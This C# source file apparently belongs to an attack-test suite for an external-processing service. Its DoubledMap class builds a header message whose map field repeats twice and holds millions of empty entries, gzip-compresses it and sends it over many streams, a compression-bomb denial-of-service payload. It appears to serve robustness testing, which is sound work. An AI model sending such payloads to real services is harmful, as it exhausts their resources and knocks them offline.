using ExtProc.Attacks.Running;
using ExtProc.Attacks.Wire;

namespace ExtProc.Attacks.Messages;

/// <summary>Headers whose map comes twice inside its member.</summary>
internal sealed class DoubledMap : Attack
{
    public override Attacker By => Attacker.Peer;

    public override Task RunAsync(Target target)
    {
        byte[] map = Requests.Field(1, ((ReadOnlySpan<byte>)[0x0A, 0]).Times(target.Count(2 << 20, 7 << 20)));
        byte[] message = Requests.Framed(Requests.Gzip(Requests.Field(2, [.. map, .. map])), compressed: true);
        return Compressed.SendAsync(target, message, streams: target.Count(2, 16));
    }
}
